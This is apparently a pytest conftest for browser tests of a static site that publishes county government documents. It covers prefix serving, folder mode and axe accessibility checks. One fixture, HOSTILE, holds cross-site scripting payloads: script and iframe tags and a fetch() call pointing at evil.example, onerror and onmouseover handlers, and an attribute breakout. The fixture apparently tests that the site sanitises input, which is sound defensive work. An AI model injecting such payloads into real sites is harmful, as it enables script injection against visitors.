"""A small site in Chromium: built once, served below a prefix, and opened from a folder."""

import functools
import http.server
import threading
import urllib.request
from contextlib import contextmanager
from dataclasses import dataclass, field
from importlib.resources import files
from pathlib import Path

import pytest

from disclosure.text.numerals import chinese_number

PREFIX = "/zwgk/"
TODAY = "2026-06-15"

PAGES = {
    "home": "",
    "openness": "openness/service/",
    "domains": "domains/",
    "domain": "domains/water/",
    "matrix": "matrix/",
    "catalogues": "catalogues/",
    "catalogue": "catalogues/water/",
    "negative": "negative/withheld/",
    "items": "items/",
    "item": "items/301001001/",
    "agencies": "agencies/",
    "agency": "agencies/water-bureau/",
    "board": "agencies/water-bureau/statutory/",
    "document": "documents/long/",
    "interpretation": "interpretations/water-measures-explained/",
    "questions": "questions/",
    "list": "lists/all/",
    "lists": "lists/",
    "latest": "latest/",
    "site-map": "site-map/",
    "application": "application/",
    "about": "about/",
    "glossary": "glossary/",
    "accessibility": "accessibility/",
    "not-found": "404.html",
    "search": "search/",
    "gone": "documents/withdrawn/",
    "moved": "documents/water-2026/",
}
"""One page of each kind; the kinds are the files of `overrides/pages/`."""

DENSEST = ("home", "document", "interpretation", "catalogue", "matrix")
"""The kinds with the most different things on a page; what is costly is done on these alone."""

RULES = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
"""The rules of axe-core that are asked."""

REVIEW = """\
公开属性: 主动公开
公开审查:
  保密审查人: 甲
  保密审查日期: 2020-01-04
  保密审查结果: 通过
  审批人: 乙
  审批日期: 2020-01-05
  审批结果: 通过
"""

LONG = f"""\
---
标题: 关于进一步做好高校毕业生、农民工、就业困难人员和退役军人等重点群体就业创业扶持政策落实工作并加强资金使用监督管理有关事项的补充通知（试行）（修订稿）
文号: 清示水〔2026〕9号
索引号: 990201002/2026-00099
发布机构: 清溪县水务局
成文日期: 2026-05-06
公开日期: 2026-05-10
施行日期: 2026-06-01
有效期: 3年
规范性文件: 是
对应事项: ["301001001"]
上位文件: [province-notice]
修改文件: [water-measures-new]
主题: [水利]
附件:
  - {{文件: table.csv, 名称: 各乡镇（街道）取水许可办理情况和水资源费征收情况统计表（按季度汇总，含上年同期数和增减比例）}}
{REVIEW}---
各乡镇人民政府，县政府各部门：

项目编号{"QX20260506" * 12}，查询网址见附件。

一、总体要求

坚持节水优先。

二、主要任务

（一）摸清底数。

各乡镇逐户登记。

（二）分类处理。

表1 任务分工

| 序号 | 任务 | 牵头单位 | 配合单位 | 完成时限 | 一季度 | 二季度 | 三季度 | 四季度 | 资金（元） | 备注 |
|--:|---|---|---|---|--:|--:|--:|--:|--:|---|
| 1 | 登记自备井 | 县水务局 | 各乡镇人民政府 | 6月底 | 120 | 98 | 130 | 77 | 1,234,567.89 | 按季度核定，随进度拨付 |

三、工作要求

按月报告。

清溪县水务局
2026年5月6日
（此件公开发布）
"""

ARTICLES = f"""\
---
标题: 清溪县节约用水管理办法
文号: 清示水〔2026〕10号
发布机构: 清溪县水务局
成文日期: 2026-05-06
公开日期: 2026-05-10
五公开: [管理公开]
附件:
  - {{文件: wide.csv, 名称: 用水情况}}
{REVIEW}---
{"".join(f"第{chinese_number(number)}条　用水单位应当按照核定的计划用水，第{number}年起按季度报告，超过计划的部分加价收费。{chr(10) * 2}" for number in range(1, 41))}
清溪县水务局
清溪县发展和改革局
2026年5月6日
"""
"""Forty articles without a chapter, signed by two."""

WIDE = "\n".join(
    ["乡镇," + ",".join(f"{month}月" for month in range(1, 13)) + ",合计"]
    + [f"第{row}镇," + ",".join(str(row * month) for month in range(1, 14)) for row in range(1, 61)]
)
"""A table of fourteen columns and sixty rows."""

HOSTILE = f"""\
---
标题: <script src="https://evil.example/a.js"></script><img src=x onerror=alert(1)>公示
发布机构: 清溪县水务局
公开日期: 2026-05-11
内容概述: '"><iframe src="https://evil.example/"></iframe>'
关键词: ['"onmouseover="alert(1)']
五公开: [结果公开]
{REVIEW}---
<script>fetch("https://evil.example/b")</script>

<img src="https://evil.example/c.png" onerror="alert(1)">

<style>body {{ background: url(https://evil.example/d.png) }}</style>

<iframe src="https://evil.example/e"></iframe>

<table onclick="alert(1)" style="position:fixed;background:url(https://evil.example/g.png)"><tr><td background="https://evil.example/h.png">格</td></tr></table>
"""

WITHDRAWN = f"""\
---
标题: 撤回的文件
发布机构: 清溪县水务局
公开日期: 2026-01-20
五公开: [结果公开]
撤回: {{撤回日期: 2026-02-01}}
{REVIEW}---
内容。
"""


def _minutes(number):
    return f"""\
---
标题: 县政府第{number}次常务会议议定事项
发布机构: 清溪县人民政府办公室
公开日期: 2026-0{number % 5 + 1}-{number % 27 + 1:02}
五公开: [决策公开]
{REVIEW}---
会议听取了汇报。
"""


@dataclass(frozen=True)
class Visit:
    """One page in a window of its own, and what happened while it was open."""

    page: object
    messages: list = field(default_factory=list)
    """What the browser complained about."""
    requests: list = field(default_factory=list)
    """Every address that was asked for."""


def pytest_generate_tests(metafunc):
    if "kind" in metafunc.fixturenames:
        metafunc.parametrize("kind", PAGES)
    if "dense" in metafunc.fixturenames:
        metafunc.parametrize("dense", DENSEST)


@pytest.fixture(scope="session")
def large_county(new_county):
    """Return a function that makes the county of the tests with all that is hard to lay out, or to keep out."""

    def make(root, options=""):
        county = new_county(root)
        settings = county.read("mkdocs.yml").partition("plugins:")[0]
        county.write("mkdocs.yml", f'{settings}plugins:\n  - disclosure:\n      today: "{TODAY}"\n{options}')
        county.write("content/documents/2026/long.md", LONG)
        county.write("content/documents/2026/table.csv", "乡镇,户数\n城南镇,120\n")
        county.write("content/documents/2026/articles.md", ARTICLES)
        county.write("content/documents/2026/wide.csv", WIDE)
        county.write("content/documents/2026/hostile.md", HOSTILE)
        county.write("content/documents/2026/withdrawn.md", WITHDRAWN)
        for number in range(1, 41):
            county.write(f"content/documents/2026/minutes-{number}.md", _minutes(number))
        return county

    return make


@pytest.fixture(scope="session")
def site(built_once, large_county):
    """The site as a web server has it."""
    return built_once("web", large_county)


@pytest.fixture(scope="session")
def folder_site(built_once, large_county):
    """The site as it is opened from a folder, without a server."""
    return built_once("folder", functools.partial(large_county, options="      addresses: folder\n"))


@pytest.fixture(scope="session")
def served(site):
    """The address of the site on this machine, below a prefix, as the portal of a county would have it."""
    with _served(site.root) as address:
        yield address


@contextmanager
def _served(root):
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(_BelowPrefix, directory=str(root)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}{PREFIX}"
    server.shutdown()
    thread.join()


class _BelowPrefix(http.server.SimpleHTTPRequestHandler):
    """Serves a folder below the prefix, and nothing elsewhere."""

    def translate_path(self, path):
        inside = path.startswith(PREFIX)
        return super().translate_path("/" + path[len(PREFIX) :] if inside else "/not/below/the/prefix")

    def send_error(self, code, message=None, explain=None):
        """Answer as the servers of portals do, with the page that is there for it."""
        body = (Path(self.directory) / "404.html").read_bytes()
        self.send_response(code)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *arguments):
        """Say nothing."""


@pytest.fixture
def visit(browser, served):
    """Return a function that opens a page of its own: a kind of page, or an address below the site."""
    contexts = []
    yield functools.partial(_opened, browser, served, contexts)
    _closed(contexts)


@pytest.fixture(scope="session")
def seen(browser, served):
    """Return a function that opens a page once for all tests that only look at it; the narrowest phone if not told."""
    contexts = []
    yield functools.lru_cache(maxsize=None)(functools.partial(_opened, browser, served, contexts, width=320))
    _closed(contexts)


def _closed(contexts):
    """Close them, and let no answer that is still on its way disturb the next test."""
    for context in contexts:
        for page in context.pages:
            page.unroute_all(behavior="ignoreErrors")
        context.close()


def _opened(
    browser,
    served,
    contexts,
    where,
    *,
    width=360,
    height=800,
    scheme="light",
    javascript=True,
    media="screen",
    edited=None,
    full="",
    before="",
):
    """Open a page; `edited` changes its HTML on the way, `before` is a script that runs before those of the page."""
    context = browser.new_context(
        viewport={"width": width, "height": height}, color_scheme=scheme, java_script_enabled=javascript
    )
    contexts.append(context)
    if before:
        context.add_init_script(before)
    page = context.new_page()
    page.set_default_timeout(20_000)
    page.emulate_media(media=media, color_scheme=scheme)
    visit = Visit(page)
    page.on("console", lambda message: visit.messages.append(message.text))
    page.on("pageerror", lambda error: visit.messages.append(str(error)))
    page.on("request", lambda request: visit.requests.append(request.url))
    address = full or served + PAGES.get(where, where)
    if where == "moved" or edited is not None:
        # What leads on at once is looked at before it does.
        page.route(address, lambda route: _answer(route, edited or _stays))
    page.goto(address, wait_until="load")
    return visit


def _answer(route, edited):
    # Read here and not by the browser: a page that is closed meanwhile takes nothing away.
    with urllib.request.urlopen(route.request.url) as response:
        html = response.read().decode()
    route.fulfill(content_type="text/html; charset=utf-8", body=edited(html))


def _stays(html):
    return html.replace('http-equiv="refresh"', 'name="refresh"')


@pytest.fixture(scope="session")
def kinds():
    """The kinds of page that are looked at."""
    return set(PAGES)


@pytest.fixture(scope="session")
def addresses():
    """Where they stand below the root of the site."""
    return tuple(PAGES.values())


@pytest.fixture(scope="session")
def axe():
    """The source of axe-core."""
    pytest.importorskip("axe_playwright_python", reason="没有安装 axe-playwright-python，无障碍测试没有运行")
    return files("axe_playwright_python").joinpath("axe.min.js").read_text("utf-8")


@pytest.fixture
def findings(axe):
    """Return a function that runs axe on a page and returns what it found: the rule, and where."""

    def find(page):
        page.evaluate(axe)
        options = {"runOnly": {"type": "tag", "values": RULES}, "resultTypes": ["violations"]}
        found = page.evaluate("(options) => axe.run(document, options)", options)["violations"]
        return [(finding["id"], node["html"][:120]) for finding in found for node in finding["nodes"]]

    return find
